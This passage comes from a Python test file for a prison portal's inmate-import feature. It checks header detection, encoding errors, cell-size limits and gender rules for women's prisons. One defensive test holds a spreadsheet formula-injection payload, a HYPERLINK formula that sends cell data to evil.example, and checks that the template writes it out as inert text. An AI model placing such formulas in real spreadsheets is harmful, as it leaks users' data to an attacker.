    content = _csv(rows[1:], header=rows[0]) if fmt == "csv" else _workbook({"Data WBP": rows})

    response = _upload(officer_client, content, name=f"peserta.{fmt}")

    preview = response.context["preview"]
    assert preview.header_row == 4
    assert [(e.row, e.column) for e in preview.errors] == [(6, "Jenis kelamin")]
    assert "Judul kolom ada di baris 4; baris di atasnya diabaikan." in response.content.decode()


def test_import_title_rows_do_not_count_towards_the_row_limit(officer_client):
    rows = [["DAFTAR PESERTA"], HEADER[:3]] + [[f"Nama {i}", f"R-{i}", "L"] for i in range(imports.MAX_ROWS)]

    preview = _upload(officer_client, _workbook({"Data": rows}), name="peserta.xlsx").context["preview"]

    assert (len(preview.rows), preview.errors, preview.header_row) == (imports.MAX_ROWS, [], 2)


def test_import_without_headings_says_which_sheet_was_read_and_where_headings_go(officer_client):
    content = _workbook({"Rekap": [["x"]], "Lain": [["Nama lengkap", "Umur"], ["Budi", "30"]]})

    response = _upload(officer_client, content, name="peserta.xlsx")

    assert response.context["form"].errors["file"] == [
        "Judul kolom seperti pada templat tidak ditemukan di 10 baris teratas lembar mana pun (dibaca: "
        "lembar “Rekap”). Letakkan judul kolom di atas data, di lembar pertama atau lembar “Peserta”. "
        "Kolom wajib yang tidak ditemukan: Nama lengkap, Nomor registrasi, Jenis kelamin (L/P)."
    ]


@pytest.mark.parametrize(
    "second_row",
    ["José Ña;B.E-2/2018;L".encode("cp1252"), "Rudi;B.E-2/2018;L;“rapi”".encode()[:-3] + b"\x9d"],
)
def test_import_of_a_csv_mixing_utf8_and_windows_1252_is_refused_naming_the_row(officer_client, second_row):
    """Read as Windows-1252 throughout, "Andrés" became "AndrÃ©s" and passed as valid."""
    content = "\r\n".join([";".join(HEADER[:3]), "Andrés Muñoz;B.E-1/2018;L"]).encode("utf-8") + b"\r\n" + second_row

    response = _upload(officer_client, content)

    assert response.context["form"].errors["file"] == [
        "Berkas ini bercampur dua penyandian huruf: sebagian UTF-8, sebagian lagi tidak (mulai baris 3), "
        "sehingga huruf seperti é atau ñ akan tersimpan rusak. Buka berkasnya di Excel, simpan sebagai "
        "“CSV UTF-8”, lalu unggah lagi."
    ]
    assert Inmate.objects.count() == 0


def test_import_of_a_csv_in_windows_1252_throughout_is_still_read(officer_client):
    content = _csv([["José Muñoz", "B.E-1/2018", "L"]], header=HEADER[:3], encoding="cp1252")

    preview = _upload(officer_client, content).context["preview"]

    assert [r["legal_name"] for r in preview.rows] == ["José Muñoz"]


def test_import_of_a_csv_with_an_overlong_cell_is_refused_in_indonesian(officer_client):
    """Python's own "field larger than field limit (131072)" reached the officer (found by a probe)."""
    content = ";".join(HEADER[:3]).encode() + b'\r\n"' + b"x" * 140_000 + b'";B.E-1/2018;L\r\n'

    response = _upload(officer_client, content)

    assert response.context["form"].errors["file"] == [
        "Berkas CSV tidak dapat dibaca: satu sel berisi teks terlalu panjang (lebih dari 131.072 huruf). "
        "Periksa berkasnya di Excel, lalu unggah lagi."
    ]
    assert Inmate.objects.count() == 0


def test_the_template_of_a_womens_prison_has_a_woman_as_its_example():
    """Found by an officer probe: "Budi Santoso … L" in the template of Lapas Perempuan Tangerang."""
    from inmates.models import Prison

    women = factories.make_prison(kind=Prison.Kind.LAPAS_PEREMPUAN)
    men = factories.make_prison(kind=Prison.Kind.LAPAS)

    (_, her), (_, his) = imports.template_rows(prison=women), imports.template_rows(prison=men)

    assert (her[0], her[2], her[6]) == ("Siti Aminah", "P", "Bu Siti")
    assert (his[0], his[2], his[6]) == ("Budi Santoso", "L", "Pak Budi")
    assert imports._is_template_example({"legal_name": "siti  aminah", "registration_number": "B.I-0123/2018"})


def test_the_import_page_names_the_example_row_its_template_holds(client):
    # Found by an officer's probe: the page of a women's prison said "baris contoh (Budi
    # Santoso)", while its template holds Siti Aminah.
    from django.urls import reverse

    from inmates.models import Prison

    women = factories.make_prison(kind=Prison.Kind.LAPAS_PEREMPUAN)
    client.force_login(factories.make_officer(prison=women))

    html = client.get(reverse("portal:inmate-import")).content.decode()

    assert "baris contoh (Siti Aminah) boleh dihapus" in html
    assert "Budi Santoso" not in html


def test_import_refuses_a_man_at_a_womens_prison():
    """As the transfer refuses to move a man to a women's prison, the import does not register one
    there (the portal form and the admin neither: tests/inmates/test_portal_inmates.py)."""
    from inmates.models import Prison

    women = factories.make_prison(name="Lapas Perempuan Kelas IIA Tangerang", kind=Prison.Kind.LAPAS_PEREMPUAN)
    client = Client()
    client.force_login(factories.make_officer(prison=women))
    content = _csv([["Siti Aminah", "B.I-1/2018", "P"], ["Yohanes Lado", "B.I-2/2018", "L"]], header=HEADER[:3])

    preview = _upload(client, content).context["preview"]

    assert [(e.row, e.column, e.message) for e in preview.errors] == [
        (
            3,
            "Jenis kelamin",
            "Lapas Perempuan Kelas IIA Tangerang adalah lapas perempuan; peserta laki-laki tidak terdaftar "
            "di sana. Periksa jenis kelaminnya.",
        )
    ]
    assert not Inmate.objects.filter(prison=women).exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_template_writes_a_formula_like_workshop_name_as_text_and_reads_it_back(officer_client, prison, fmt):
    """Found by an attacker probe: a workshop named "=HYPERLINK(...)" (by an admin account) was a
    live formula in the template of every officer of that prison."""
    import openpyxl

    planted = factories.make_workshop(prison=prison, name='=HYPERLINK("http://evil.example/?d="&B2,"Bengkel")')
    response = officer_client.get(reverse("portal:inmate-import-template"), {"format": fmt})

    if fmt == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.value]
        assert all(not (isinstance(v, str) and v.startswith("=")) for v in cells)
        assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    else:
        assert b'"=HYPERLINK' not in response.content and b"'=HYPERLINK" in response.content
    template = imports.read_table(SimpleUploadedFile(f"templat.{fmt}", response.content)).rows
    header, example = template[0][1], template[1][1]
    checked = imports.check_rows(list(enumerate([header, [example[0], "B.I-9999/2018", *example[2:]]], start=1)),
                                 prison=prison)
    assert checked.errors == [] and checked.rows[0]["workshop_id"] == planted.pk
